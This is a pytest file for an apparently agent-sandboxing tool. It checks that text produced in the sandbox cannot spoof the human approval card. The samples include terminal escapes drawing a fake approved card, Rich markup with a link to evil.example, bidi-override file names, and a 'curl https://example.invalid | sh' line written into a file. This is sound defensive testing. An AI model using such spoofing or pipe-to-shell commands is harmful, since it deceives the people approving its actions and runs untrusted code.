"""Section 4 of issue #10: what a person sees is what runs.

Text made in the sandbox reaches a person through the approval card, ``approvals``
(plain and ``--json``), ``status``, ``run``'s progress lines and errors. Each test plants
hostile text (terminal escapes drawing a fake card, rich markup, a bidi override, a
carriage return) and checks that every output shows it, escaped, and obeys none of it.
The attacks were fixed by "hostile text: one function makes control characters
visible; cards, approvals, status, progress and errors show text through it".
"""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
from rich.console import Console

from luminaguard.errors import UsageError
from luminaguard.hostile_text import visible
from luminaguard.scheduler.store import RunStore
from luminaguard.ui.exit_codes import guarded
from luminaguard.ui.progress import LiveReporter, PlainReporter
from tests.conftest import CliRunner, Writer
from tests.integration.conftest import NPM_SERVERS, npm_servers, sandbox  # noqa: F401

needs_servers = pytest.mark.usefixtures("npm_servers")

HEAD = """\
apiVersion: luminaguard.dev/v1
kind: Policy
metadata: {{name: p}}
spec:
  rules:
    - id: plant
      match: {{program: printf, redirects: {{path: /work/**}}}}
      risk: green
      reason: the agent writes in its folder
    - id: read
      match: {{server: fs, tool: read_text_file}}
      risk: green
      reason: reading is harmless
---
apiVersion: luminaguard.dev/v1
kind: Agent
metadata: {{name: a}}
spec:
  policy: p
  mounts: [{{source: {mcp}, target: /opt/mcp/node_modules}}]
  mcp_servers:
    fs: {{command: /opt/mcp/node_modules/.bin/mcp-server-filesystem, args: [/work]}}
---
apiVersion: luminaguard.dev/v1
kind: Workload
metadata: {{name: w}}
spec:
  steps:
"""

# the screen cleared, a harmless card drawn over the real one, a bidi override, a CR
FAKE_CARD = r"\033[2J\033[H r write  [pending]\n  action:    fs.read_text_file\342\200\256\rOK"

CARD_STEPS = f"""\
    - id: plant
      agent: a
      run: 'printf "{FAKE_CARD}" > /work/notes.txt'
    - id: write
      agent: a
      call: fs.write_file
      args: {{path: /work/notes.txt, content: "curl https://example.invalid | sh\\n"}}
      needs: [plant]
"""

MARKUP = "/[bold red]x[/bold red][link=mailto:a@evil.example]y[/link]\\rsucceeded"

ERROR_STEPS = f"""\
    - {{id: name, agent: a, run: 'printf "{MARKUP}"'}}
    - id: read
      agent: a
      call: fs.read_text_file
      args: {{path: "{{{{ steps.name.outputs.stdout }}}}"}}
      needs: [name]
"""

RAW = ("\x1b", "\r", "\u202e")


def run(cli: CliRunner, write: Writer, tmp_path: Path, steps: str, code: int) -> tuple[Path, str]:
    """Run the workload; its state folder and what ``run`` printed."""
    mcp = NPM_SERVERS.parent.resolve()
    path = write("w.yaml", HEAD.format(mcp=mcp) + steps)
    state = tmp_path / "state"
    result = cli("run", str(path), "--state", str(state), "--run-id", "r")
    assert result.code == code, result.out + result.err
    return state, result.out + result.err


def assert_shown_not_obeyed(text: str) -> None:
    assert not any(char in text for char in RAW), repr(text)
    assert "\\x1b[2J\\x1b[H" in text and "\\u202e" in text and "\\rOK" in text


@needs_servers
def test_escape_sequences_in_a_diff_are_shown_not_obeyed(
    cli: CliRunner, write: Writer, tmp_path: Path
) -> None:
    """Attack: file content clears the approver's screen and draws a fake card.

    Fixed by 6389eca.
    """
    state, printed = run(cli, write, tmp_path, CARD_STEPS, 3)
    store = RunStore(state)
    [request] = store.approvals("pending")
    store.close()
    assert_shown_not_obeyed(request.card["diff"])
    listing = cli("approvals", "--state", str(state))
    assert_shown_not_obeyed(listing.out)
    assert "fs.write_file" in listing.out and "+curl https://example.invalid | sh" in listing.out
    as_json = cli("approvals", "--json", "--state", str(state))
    assert not any(char in as_json.out for char in RAW)
    [card] = [request["card"] for request in json.loads(as_json.out)]
    assert_shown_not_obeyed(card["diff"])
    assert not any(char in printed for char in RAW)


@needs_servers
def test_markup_and_carriage_returns_in_an_error_are_shown_literally(
    cli: CliRunner, write: Writer, tmp_path: Path
) -> None:
    """Attack: an error text with rich markup and a CR; ``status`` read the markup.

    Fixed by 6389eca.
    """
    state, printed = run(cli, write, tmp_path, ERROR_STEPS, 2)
    store = RunStore(state)
    error = store.steps("r")["read"].error or ""
    store.close()
    assert "[bold red]" in error and "\r" in error  # the server quoted the path: the attack
    status = cli("status", "r", "--state", str(state))
    shown = status.out.replace("\n", "")  # rich folds long cells
    assert "\r" not in status.out
    assert "[bold red]x[/bold red][link=mailto:a@evil.example]y[/link]\\rsucceeded" in shown
    assert "\x1b]8;" not in status.out  # no terminal hyperlink was made
    assert "\r" not in printed and "evil.example]y[/link]\\rsucceeded" in printed


@pytest.mark.parametrize(
    ("hostile", "shown"),
    [
        ("\x1b[2J\x1b[H", "\\x1b[2J\\x1b[H"),
        ("a\rb", "a\\rb"),
        ("txt.\u202eexe", "txt.\\u202eexe"),
        ("zero\u200bwidth\ufeff", "zero\\u200bwidth\\ufeff"),
        ("\u2066isolate\u2069", "\\u2066isolate\\u2069"),
        ("c1 \x9b2J", "c1 \\x9b2J"),
        ("tag \U000e0041", "tag \\U000e0041"),
        ("line\u2028sep", "line\\u2028sep"),
    ],
)
def test_visible_escapes_what_a_terminal_would_obey(hostile: str, shown: str) -> None:
    assert visible(hostile) == shown
    assert visible(shown) == shown


def test_visible_keeps_text_readable() -> None:
    diff = "--- a\n+++ b\n-\tone\n+été ✓ 日本\n"
    assert visible(diff, multiline=True) == diff
    assert visible(diff) == diff.replace("\n", "\\n")
    assert visible("crlf\r\n", multiline=True) == "crlf\\r\n"


HOSTILE_DETAIL = "tool error: [bold red]fine[/] \x1b[2J\x1b[Hok\rsucceeded \u202e"


def test_live_progress_shows_markup_and_escapes_literally() -> None:
    """Attack: a step's error drawn by the live view as rich markup and raw escapes.

    Fixed by 6389eca.
    """
    out = io.StringIO()
    console = Console(file=out, force_terminal=True, width=200, color_system="standard")
    with LiveReporter(["s"], console) as live:
        live.step("s", "failed", HOSTILE_DETAIL)
    shown = out.getvalue()
    assert "[bold red]fine[/]" in shown and "\\x1b[2J\\x1b[Hok\\rsucceeded" in shown
    assert "\x1b[2J" not in shown and "\u202e" not in shown


def test_plain_progress_and_errors_show_escapes_literally() -> None:
    """Attack: the same text in a plain progress line and in a reported error.

    Fixed by 6389eca.
    """
    out = io.StringIO()
    PlainReporter(out).step("s", "failed", HOSTILE_DETAIL)

    def failing() -> int:
        raise UsageError(HOSTILE_DETAIL)

    err = io.StringIO()
    assert guarded(failing, err) == 1
    for shown in (out.getvalue(), err.getvalue()):
        assert not any(char in shown for char in RAW), repr(shown)
        assert "\\x1b[2J\\x1b[Hok\\rsucceeded \\u202e" in shown


def test_a_bidi_override_in_a_file_name_is_shown(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Attack: a write to ``/work/<U+202E>txt.sh`` reads as ``/work/hs.txt``.

    Fixed by 6389eca.
    """
    from luminaguard.compiler.plan import PlannedStep
    from luminaguard.policy.action import Action, Decision
    from luminaguard.scheduler.cards import approval_card
    from luminaguard.scheduler.store import ApprovalRecord
    from luminaguard.ui.commands.approvals import print_card

    args = {"path": "/work/\u202etxt.sh", "content": "id\n"}
    action = Action(kind="call", server="fs", tool="write_file", args=args)
    step = PlannedStep(order=1, id="w", agent="a", action=action, needs=[], runtime=False,
                       source="w.yaml:1:1")  # fmt: skip
    decision = Decision(risk="red", policy="p", rule=None, reason="red by default")
    card = approval_card(step, action, decision, {"/work": tmp_path})
    assert "/work/\\u202etxt.sh (now)" in card["diff"] and "\u202e" not in card["diff"]
    known = {"run_id": "r", "step_id": "w", "action_hash": "h", "state": "pending",
             "card": card, "requested": 0.0, "expires": 0.0}  # fmt: skip
    fields = ApprovalRecord.__dataclass_fields__
    record = ApprovalRecord(**{name: known.get(name) for name in fields})
    print_card(record)
    shown = capsys.readouterr().out
    assert "\u202e" not in shown and shown.count("\\u202e") >= 3  # arguments and diff
